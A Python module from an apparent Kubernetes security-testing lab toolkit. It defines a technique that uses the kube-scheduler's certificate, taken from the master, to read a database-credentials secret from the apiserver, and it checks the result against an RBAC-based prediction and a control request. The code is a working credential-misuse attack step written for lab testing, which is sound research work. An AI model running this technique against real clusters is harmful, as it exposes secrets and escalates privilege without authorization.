"""Read a secret with the certificate of the scheduler, which places pods and needs none.

It lies on the master, and in every backup and every configuration management that makes one.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from labkit.errors import ProbeError
from labkit.model import View
from labkit.model.rights import Action
from labkit.techniques._access import CHANNEL, api_url, may_all
from labkit.techniques._ask import ask
from labkit.techniques._base import OUTSIDE, SECRETS, Prediction, Technique
from labkit.techniques._reach import Answer, request
from labkit.techniques._secret import true_secret
from labkit.techniques._verdict import Verdict
from labkit.techniques._worker import MASTER, caller, carried

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

KIND = "kube-scheduler"
WANTED = ("shop", "db-credentials", "password")
ACTION = Action("get", "secrets", namespace=WANTED[0], name=WANTED[1])


def predict(view: View, foothold: str) -> Prediction:
    """Say what the model says: what the apiserver allows the scheduler."""
    return may_all(view, caller(view.env, KIND, MASTER), [ACTION])


def execute(lab: Lab, foothold: str) -> Verdict:
    """Ask for the secret with the scheduler's certificate."""
    secret = true_secret(lab, *WANTED)

    def proof(answer: Answer) -> str:
        if not secret.found_in(answer.body):
            raise ProbeError("the apiserver answered, but not with the secret")
        return f"with the certificate of the scheduler, read: {secret.proof}"

    with carried(lab, foothold, KIND, MASTER) as options:

        def control() -> str:
            url = api_url(lab, "/api/v1/pods?limit=1")
            own = request(lab, url, foothold=foothold, options=options)
            if own.refusal:
                raise ProbeError(f"the scheduler's certificate reads no pods: {own.refusal}")
            return "the same certificate reads pods, which a scheduler is there for"

        return ask(
            lab,
            TECHNIQUE.name,
            foothold,
            api_url(lab, f"/api/v1/namespaces/{WANTED[0]}/secrets/{WANTED[1]}"),
            options=options,
            proof=proof,
            control=control,
        )


TECHNIQUE = Technique(
    name="scheduler-credential",
    title="Read a secret with the scheduler's certificate",
    footholds=(OUTSIDE,),
    grants=(SECRETS,),
    about=CHANNEL,
    properties=("authorization",),
    attack=("T1552.004", "T1552.007"),
    stride=("information disclosure", "elevation of privilege"),
    cwe=("CWE-269", "CWE-732"),
    sources=(
        "Securing communications in Kubernetes (2016), Least privilege in Kubernetes APIs",
        "https://kubernetes.io/docs/reference/access-authn-authz/rbac/#core-component-roles",
        "https://attack.mitre.org/techniques/T1552/004/",
    ),
    predict=predict,
    execute=execute,
)
